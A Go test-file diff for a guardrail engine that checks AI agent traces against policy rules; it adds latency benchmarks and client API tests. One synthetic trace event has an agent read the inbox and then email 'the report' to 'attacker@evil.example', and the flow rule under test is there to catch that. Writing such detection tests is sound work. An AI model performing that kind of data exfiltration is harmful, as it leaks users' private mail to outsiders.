@@ -11,6 +11,7 @@ import (
 	"net/http"
 	"os"
 	"path/filepath"
+	"slices"
 	"strconv"
 	"strings"
 	"sync"
@@ -19,6 +20,7 @@ import (
 
 	"golang.org/x/tools/txtar"
 
+	"github.com/vigilhq/vigil/client"
 	"github.com/vigilhq/vigil/policy"
 	"github.com/vigilhq/vigil/policy/builtin"
 	"github.com/vigilhq/vigil/store"
@@ -618,4 +620,185 @@ func FuzzCheckRequest(f *testing.F) {
 			}
 		}
 	})
+}
+
+// benchCheckTrace returns a 100-event agent trace as JSON: user turns,
+// tool calls (inbox, files, mail), their outputs and answers, with one
+// mail to an outside address near the end.
+func benchCheckTrace(tb testing.TB) json.RawMessage {
+	var evs []any
+	for i := 0; len(evs) < 100; i++ {
+		tool, args := "read_file", fmt.Sprintf(`{"path": "/home/u/doc%d.txt"}`, i)
+		switch {
+		case i%5 == 0:
+			tool, args = "get_inbox", `{"n": 10}`
+		case i == 23:
+			tool, args = "send_email", `{"to": "attacker@evil.example", "body": "the report"}`
+		case i%5 == 3:
+			tool, args = "send_email", fmt.Sprintf(`{"to": "Peter", "body": "report %d"}`, i)
+		}
+		id := fmt.Sprint("call_", i)
+		evs = append(evs,
+			map[string]any{"role": "user", "content": fmt.Sprintf("Please handle request %d and keep it short.", i)},
+			map[string]any{"role": "assistant", "content": nil, "tool_calls": []any{map[string]any{"id": id, "type": "function", "function": map[string]any{"name": tool, "arguments": args}}}},
+			map[string]any{"role": "tool", "tool_call_id": id, "content": fmt.Sprintf("result %d: a few lines of ordinary text and the number 12345.", i)},
+			map[string]any{"role": "assistant", "content": "Done. Anything else?"})
+	}
+	b, err := json.Marshal(evs[:100])
+	if err != nil {
+		tb.Fatal(err)
+	}
+	return b
+}
+
+// benchRules are the policies of the check benchmarks: one flow rule over
+// tool calls (the Python client's usual single guardrail), and the
+// realistic 5-rule policy of the engine's own benchmarks.
+func benchRules(tb testing.TB) map[string]string {
+	a, err := txtar.ParseFile("../policy/testdata/check/bench.txtar")
+	if err != nil {
+		tb.Fatal(err)
+	}
+	rules := map[string]string{"rule": "raise PolicyViolation(\"must not send emails to anyone but Peter after reading the inbox\", call=call, call2=call2) if:\n" +
+		"    (call: ToolCall) -> (call2: ToolCall)\n    call is tool:get_inbox\n    call2 is tool:send_email({to: \"^(?!Peter$).*$\"})\n"}
+	for _, f := range a.Files {
+		if f.Name == "policy" {
+			rules["5rules"] = string(f.Data)
+		}
+	}
+	if rules["5rules"] == "" {
+		tb.Fatal("bench.txtar has no policy section")
+	}
+	return rules
+}
+
+// BenchmarkCheckAPI measures POST /api/v1/policy/check of a 100-event
+// trace with a cached rule, from a sequential keep-alive client over real
+// loopback HTTP: it reports the round trip's p50 and p99 and checks/s.
+func BenchmarkCheckAPI(b *testing.B) {
+	ts := newTestServer(b, openSQLite(b))
+	msgs := benchCheckTrace(b)
+	for name, src := range benchRules(b) {
+		b.Run(name, func(b *testing.B) {
+			body, err := json.Marshal(map[string]any{"messages": msgs, "policy": src, "parameters": map[string]any{}})
+			if err != nil {
+				b.Fatal(err)
+			}
+			hc := ts.Client()
+			send := func() {
+				req, _ := http.NewRequest("POST", ts.URL+"/api/v1/policy/check", bytes.NewReader(body))
+				req.Header.Set("Authorization", "Bearer "+adminKey)
+				req.Header.Set("Content-Type", "application/json")
+				resp, err := hc.Do(req)
+				if err != nil {
+					b.Fatal(err)
+				}
+				var out bytes.Buffer
+				_, _ = out.ReadFrom(resp.Body)
+				resp.Body.Close()
+				if resp.StatusCode != 200 || !bytes.Contains(out.Bytes(), []byte(`"errors":[{`)) {
+					b.Fatalf("%d %s", resp.StatusCode, out.Bytes())
+				}
+			}
+			send() // compiles and caches the rule
+			lat := make([]time.Duration, 0, b.N)
+			b.ReportAllocs()
+			b.ResetTimer()
+			start, cpu := time.Now(), processCPU()
+			for b.Loop() {
+				t0 := time.Now()
+				send()
+				lat = append(lat, time.Since(t0))
+			}
+			reportLatency(b, lat, time.Since(start), processCPU()-cpu)
+		})
+	}
+}
+
+// reportLatency reports p50 and p99 in µs, the rate in checks/s and the
+// process CPU time per check (client and server: on a shared machine it
+// says more than the wall time does).
+func reportLatency(b *testing.B, lat []time.Duration, elapsed, cpu time.Duration) {
+	if len(lat) == 0 {
+		return
+	}
+	b.ReportMetric(float64(cpu.Nanoseconds())/float64(len(lat))/1e3, "cpu-µs/op")
+	slices.Sort(lat)
+	b.ReportMetric(float64(lat[len(lat)/2].Nanoseconds())/1e3, "p50-µs")
+	b.ReportMetric(float64(lat[len(lat)*99/100].Nanoseconds())/1e3, "p99-µs")
+	b.ReportMetric(float64(len(lat))/elapsed.Seconds(), "checks/s")
+}
+
+// BenchmarkCheckInProcess is the same work without HTTP: decode the
+// 100-event trace and analyse it with the compiled rule.
+func BenchmarkCheckInProcess(b *testing.B) {
+	msgs := benchCheckTrace(b)
+	for name, src := range benchRules(b) {
+		b.Run(name, func(b *testing.B) {
+			p, err := policy.Load(src, policy.Options{Name: "policy"})
+			if err != nil {
+				b.Fatal(err)
+			}
+			lat := make([]time.Duration, 0, b.N)
+			b.ReportAllocs()
+			start, cpu := time.Now(), processCPU()
+			for b.Loop() {
+				t0 := time.Now()
+				t, err := trace.Decode(msgs)
+				if err != nil {
+					b.Fatal(err)
+				}
+				res, err := p.Analyze(context.Background(), t, map[string]any{})
+				if err != nil || len(res.Errors) == 0 {
+					b.Fatal(err, res)
+				}
+				lat = append(lat, time.Since(t0))
+			}
+			reportLatency(b, lat, time.Since(start), processCPU()-cpu)
+		})
+	}
+}
+
+// TestCheckClient drives the check API through package client's typed
+// calls against a real server.
+func TestCheckClient(t *testing.T) {
+	ts := newTestServer(t, openSQLite(t))
+	ctx := context.Background()
+	msgs := threeMessages()
+	each := "raise PolicyViolation(\"each\", m, n=1) if:\n    (m: Message)\n"
+	res, err := ts.c.Check(ctx, client.CheckRequest{Messages: msgs, Policy: each})
+	if err != nil || len(res.Errors) != 3 || res.Errors[0].Key != "(0, (0,))" || res.Errors[0].Kwargs["n"] != float64(1) ||
+		res.Errors[2].Ranges[0] != "messages.2" || res.Failures == nil || res.Warnings == nil {
+		t.Fatalf("Check: %v %+v", err, res)
+	}
+	two := 2
+	res, err = ts.c.Check(ctx, client.CheckRequest{Messages: msgs, Policy: each, FromIndex: &two})
+	if err != nil || len(res.Errors) != 1 || res.Errors[0].Key != "(0, (2,))" {
+		t.Fatalf("Check pending: %v %+v", err, res)
+	}
+	res, err = ts.c.Check(ctx, client.CheckRequest{Messages: msgs, Policy: "raise \"p\" if:\n    (m: Message)\n    input.word in m.content\n", Parameters: map[string]any{"word": "b"}})
+	if err != nil || len(res.Errors) != 1 || res.Errors[0].Ranges[1] != "messages.1.content:0-1" {
+		t.Fatalf("Check with parameters: %v %+v", err, res)
+	}
+	_, err = ts.c.Check(ctx, client.CheckRequest{Messages: msgs, Policy: "raise \"p\" if:\n    (m: Message)\n    input.word in m.content\n"})
+	var ae *client.APIError
+	if !errors.As(err, &ae) || ae.StatusCode != 400 || !strings.HasPrefix(ae.Detail, prefixMissingParameter) {
+		t.Fatalf("Check without the parameter: %v", err)
+	}
+	batch, err := ts.c.CheckBatch(ctx, client.BatchRequest{Messages: msgs, Policies: []string{each, "raise"}, DatasetName: "d"})
+	if err != nil || len(batch) != 2 || !batch[0].Success || len(batch[0].Errors) != 3 || batch[1].Success ||
+		!strings.HasPrefix(batch[1].ErrorMessage, prefixLoad) || batch[1].Policy != "raise" {
+		t.Fatalf("CheckBatch: %v %+v", err, batch)
+	}
+	if err := ts.c.LoadPolicy(ctx, each); err != nil {
+		t.Fatalf("LoadPolicy: %v", err)
+	}
+	err = ts.c.LoadPolicy(ctx, "raise \"x\" if:\n    (m: Mesage)\n")
+	if !errors.As(err, &ae) || ae.Code != "policy_invalid" || !strings.HasPrefix(ae.Detail, prefixLoad) {
+		t.Fatalf("LoadPolicy of an invalid rule: %v", err)
+	}
+	items, _ := ae.Body["errors"].([]any)
+	if len(items) != 1 || items[0].(map[string]any)["line"] != float64(2) || items[0].(map[string]any)["column"] != float64(9) {
+		t.Errorf("load error items %v, want line 2 column 9", ae.Body["errors"])
+	}
 }
